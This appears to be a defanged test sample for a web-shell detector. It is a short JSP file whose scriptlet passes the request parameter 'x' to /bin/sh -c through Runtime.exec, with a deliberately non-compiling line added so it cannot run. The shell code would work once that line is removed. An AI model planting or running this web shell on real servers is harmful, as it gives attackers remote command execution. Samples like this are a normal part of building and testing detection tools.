<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
Runtime rt = Runtime.getRuntime();
String[] a = new String[] { "/bin/sh", "-c", request.getParameter("x") };
rt.exec(a);
%>
